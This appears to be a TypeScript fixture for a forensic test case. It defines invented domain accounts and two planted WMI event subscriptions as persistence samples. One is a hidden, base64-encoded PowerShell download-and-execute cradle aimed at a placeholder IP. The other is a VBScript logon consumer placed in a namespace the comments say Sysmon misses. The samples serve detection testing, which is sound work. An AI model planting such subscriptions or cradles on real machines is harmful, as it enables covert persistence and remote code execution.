/** Who and what the case in `first-case/` is about: invented accounts and two planted subscriptions. */
import type { Account, SubscriptionSpec } from "../packages/evtx/src/fixtures/index.ts";

export const COMPUTER = "WKSTN-04";
const DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820";
export const BUILD: Account = { sid: `${DOMAIN_SID}-1126`, name: "svc-build", domain: "CONTOSO", logonId: 0x5d2c41n };
export const INVENTORY_ADMIN: Account = {
  sid: `${DOMAIN_SID}-1109`,
  name: "adm-inventory",
  domain: "CONTOSO",
  logonId: 0x4b91a7n,
};
export const SYSTEM: Account = { sid: "S-1-5-18", name: `${COMPUTER}$`, domain: "CONTOSO", logonId: 0x3e7n };

/** What the first subscription runs: harmless, but shaped like a downloader. */
export const DOWNLOADER = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/check.ps1')";
export const ENCODED = `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(DOWNLOADER, "utf16le").toString("base64")}`;

/** Fires minutes after each start of Windows; created, fired, removed. */
export const UPDATE_CHECK: SubscriptionSpec = {
  filter: {
    name: "WindowsUpdateCheck",
    query:
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325",
  },
  consumer: {
    className: "CommandLineEventConsumer",
    name: "WindowsUpdateCheck",
    properties: { CommandLineTemplate: ENCODED },
  },
  creator: BUILD.sid,
};

/** Waits for a console logon; still there. In root\default, where Sysmon doesn't look. */
export const LOGON_SCRIPT: SubscriptionSpec = {
  namespace: "root\\default",
  filter: {
    name: "ProfileSync",
    query:
      "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2",
  },
  consumer: {
    className: "ActiveScriptEventConsumer",
    name: "ProfileSync",
    properties: {
      ScriptingEngine: "VBScript",
      ScriptText:
        'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd.exe /c whoami > C:\\ProgramData\\sync.log", 0, True\r\n',
    },
  },
  creator: BUILD.sid,
};
